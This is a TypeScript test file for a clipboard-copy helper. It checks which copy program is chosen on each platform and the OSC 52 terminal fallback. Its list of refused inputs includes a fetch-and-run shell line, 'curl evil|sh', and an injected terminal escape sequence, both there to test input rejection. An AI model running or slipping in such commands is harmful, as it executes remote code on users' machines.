import {chmodSync, existsSync, readFileSync, writeFileSync} from 'node:fs'
import {join} from 'node:path'
import {expect} from 'chai'
import {clipboardCommands, copyText} from '../../src/browser/copy-text.js'
import type {Desktop} from '../../src/browser/surroundings.js'
import {requireThat} from '../support/requires.js'
import {useTemporaryFolder} from '../support/temporary-folder.js'

const programs = (platform: NodeJS.Platform, env: Desktop['env']) =>
  clipboardCommands({platform, env}).map(([program]) => program)

describe('copying a code', () => {
  requireThat(process.platform !== 'win32', 'needs a shell script in place of a clipboard')
  const temporary = useTemporaryFolder()

  const copy = async (text: string, env: Desktop['env'] = {}) => {
    const written: string[] = []
    const outcome = await copyText(text, {platform: 'linux', env, write: (sequence) => written.push(sequence)})
    return {outcome, written: written.join('')}
  }

  it('asks the program of the system, and none where the clipboard is on another machine', () => {
    expect(programs('darwin', {})).to.deep.equal(['pbcopy'])
    expect(programs('win32', {})).to.deep.equal(['clip'])
    expect(programs('linux', {WSL_DISTRO_NAME: 'Debian'})).to.deep.equal(['clip.exe'])
    expect(programs('linux', {WAYLAND_DISPLAY: 'w', DISPLAY: ':0'})).to.deep.equal(['wl-copy', 'xclip', 'xsel'])
    expect(programs('linux', {})).to.deep.equal([])
    expect(programs('linux', {DISPLAY: ':10', SSH_TTY: '/dev/pts/1'})).to.deep.equal([])
    expect(programs('darwin', {SSH_CONNECTION: '1'})).to.deep.equal([])
    expect(programs('linux', {DISPLAY: ':0', container: 'podman'})).to.deep.equal([])
  })

  it('asks the terminal by OSC 52 where there is no program', async () => {
    const {outcome, written} = await copy('GBSK-CGDW', {SSH_TTY: '/dev/pts/1'})
    expect(outcome).to.equal('sent')
    expect(written).to.equal(`\u001B]52;c;${Buffer.from('GBSK-CGDW').toString('base64')}\u0007`)
  })

  it('gives the program the code on its standard input, and the terminal nothing', async () => {
    const [program, copied] = [join(temporary(), 'wl-copy'), join(temporary(), 'copied')]
    writeFileSync(program, `#!/bin/sh\ncat > '${copied}'; [ $# = 0 ]\n`)
    chmodSync(program, 0o755)
    const {PATH} = process.env
    process.env['PATH'] = `${temporary()}:${PATH}`
    try {
      expect(await copy('GBSK-CGDW', {WAYLAND_DISPLAY: 'w'})).to.deep.equal({outcome: 'copied', written: ''})
      expect(readFileSync(copied, 'utf8')).to.equal('GBSK-CGDW')
      writeFileSync(program, '#!/bin/sh\nexit 1\n')
      expect((await copy('GBSK-CGDW', {WAYLAND_DISPLAY: 'w'})).outcome).to.equal('sent')
    } finally {
      process.env['PATH'] = PATH
    }
  })

  for (const [what, text] of Object.entries({
    'an escape sequence': 'A\u001B]52;c;ZXZpbA==\u0007',
    'a line break, which a shell would take for Enter': 'curl evil|sh\n',
    'a long text': 'A'.repeat(65),
    'letters that look like others': 'АВС',
    nothing: '',
  })) {
    it(`refuses ${what}`, async () => {
      expect(await copy(text)).to.deep.equal({outcome: 'refused', written: ''})
      expect(existsSync(join(temporary(), 'copied'))).to.equal(false)
    })
  }
})
